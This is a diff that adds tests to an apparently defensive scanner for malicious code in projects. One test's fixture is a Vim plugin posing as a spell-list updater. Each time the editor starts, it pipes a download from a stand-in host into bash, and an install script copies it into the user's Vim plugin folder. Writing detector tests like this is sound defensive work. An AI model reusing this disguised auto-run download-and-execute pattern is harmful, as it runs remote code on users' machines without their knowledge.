@@ -260,3 +260,27 @@ def test_a_cargo_token_sent_out_is_stopped_and_one_handed_to_cargo_is_quiet():
         'import subprocess\nsubprocess.run(["cargo", "publish", "--dry-run"], check=True)',
     )
     assert loud({"audit.py": twin}) == []
+
+
+# --- 10. an editor's start-up script (Vim, Neovim, Emacs) runs each time the editor starts -------------------------
+
+VIM_PLUGIN = """" keep the spell lists fresh
+let s:base = 'https://spell-lists.example.net'
+function! s:Refresh() abort
+  call system('wget -qO- ' . s:base . '/update.sh | bash')
+endfunction
+autocmd VimEnter * call s:Refresh()
+"""
+VIM_INSTALL = """#!/bin/sh
+set -eu
+mkdir -p "$HOME/.vim/plugin"
+cp "$(dirname "$0")/spell.vim" "$HOME/.vim/plugin/spell.vim"
+"""
+
+
+def test_an_editor_plugin_that_pipes_a_download_to_a_shell_is_stopped_where_it_is_installed():
+    assert (STARTUP, 4) in _errors({"install.sh": VIM_INSTALL, "spell.vim": VIM_PLUGIN})
+    quiet = VIM_PLUGIN.replace(
+        "call system('wget -qO- ' . s:base . '/update.sh | bash')", "setlocal spell spelllang=en_gb"
+    )
+    assert loud({"install.sh": VIM_INSTALL, "spell.vim": quiet}) == []
